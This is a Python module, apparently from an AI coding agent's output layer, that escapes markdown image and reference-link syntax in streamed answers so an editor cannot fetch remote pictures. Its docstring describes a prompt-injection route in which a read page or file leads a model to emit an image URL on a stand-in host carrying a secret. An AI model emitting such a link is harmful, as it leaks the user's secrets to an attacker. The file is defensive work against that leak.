r"""Keeps an editor from fetching pictures that a text names (security.md 2.7; CVE-2025-54132).

A page or a file a tool has read can talk the model into `![](https://evil.example/?q=<secret>)`; an editor that renders
this has sent the secret. So what would make a renderer fetch something from elsewhere is broken with a backslash, and
reads as what it is:

    ![alt](https://…)    ![alt]\(https://…)     a `![` may stand far before, but in the same paragraph
    [label]: https://…   [label]\: https://…    a picture may name the label

Pictures of this machine (`![](img/x.png)`, `data:`) stay, and so do links, which nobody follows unasked. Code blocks
are no exception: nobody can say where one ends for every renderer. HTML is a matter of `html_tags`.
"""

import re

from acp_agent.output.control_characters import ControlGuard
from acp_agent.output.html_tags import HtmlGuard

_LONGEST_TARGET = 256
"""Characters of a target that are looked at: what is not known to be local by then is not."""

_LONGEST_GAP = 16
"""White space in front of it, likewise."""

_SLICE = 64 * 1024
"""Characters looked through at once, which takes milliseconds: other threads wait for that long."""

_PLAIN = rf"[\w./#?=@+,%~-]{{1,{_LONGEST_TARGET}}}+"
_GAP = rf"[ \t\n]{{0,{_LONGEST_GAP}}}"
_LOCAL = re.compile(rf"{_GAP}+<?+(?:data:|(?!//){_PLAIN}(?=[\s)>\"']|\Z)|[)>\"']|\Z)")
_OPENING = re.compile(r"(?P<image>!\[)|(?P<paragraph>\n[ \t]*(?=\n))|(?P<target>\]\()|(?P<label>\]:)")
_UNDECIDED = re.compile(rf"(?:!|\]|\n[ \t]*|\][(:]{_GAP}<?[^\s)>\"']{{0,{_LONGEST_TARGET}}})\Z")


def defused(text: str) -> str:
    """The whole text, with nothing in it that a renderer would load from elsewhere, and no character that acts."""
    guard = AnswerGuard()
    pieces = [guard.feed(text[start : start + _SLICE]) for start in range(0, len(text), _SLICE)]
    return "".join((*pieces, guard.finish()))


class AnswerGuard:
    """Makes a stream of words fit for an editor: characters, HTML and pictures.

    However it is cut, the pieces given back join to the same text.
    """

    def __init__(self) -> None:
        self._guards = (ControlGuard(), HtmlGuard(), ImageGuard())

    def feed(self, chunk: str) -> str:
        """Return what is certain after this chunk; may be empty."""
        for guard in self._guards:
            chunk = guard.feed(chunk)
        return chunk

    def finish(self) -> str:
        """Return the rest."""
        rest = ""
        for guard in self._guards:
            rest = guard.feed(rest) + guard.finish()
        return rest


class ImageGuard:
    """Defuses a stream. However it is cut, the pieces given back join to the same text.

    What is held back is the beginning of a construct, a few hundred characters at most.
    """

    def __init__(self) -> None:
        self._held = ""
        self._pictured = False  # whether a `![` stands in the paragraph

    def feed(self, chunk: str) -> str:
        """What is certain after this chunk; may be empty."""
        text = self._held + chunk
        undecided = _UNDECIDED.search(text, max(0, len(text) - _LONGEST_TARGET - _LONGEST_GAP - 8))
        end = undecided.start() if undecided else len(text)
        self._held = text[end:]
        return self._broken(text, end)

    def finish(self) -> str:
        """The rest."""
        rest, self._held = self._held, ""
        return self._broken(rest, len(rest))

    def _broken(self, text: str, end: int) -> str:
        pieces, start = list[str](), 0
        for found in _OPENING.finditer(text):
            if found.start() >= end:
                break
            match found.lastgroup:
                case "image" | "paragraph":
                    self._pictured = found.lastgroup == "image"
                case _ if _LOCAL.match(text, found.end()):
                    pass
                case "target" if not self._pictured:
                    pass
                case _:
                    pieces += text[start : found.end() - 1], "\\"
                    start = found.end() - 1
        return "".join((*pieces, text[start:end]))
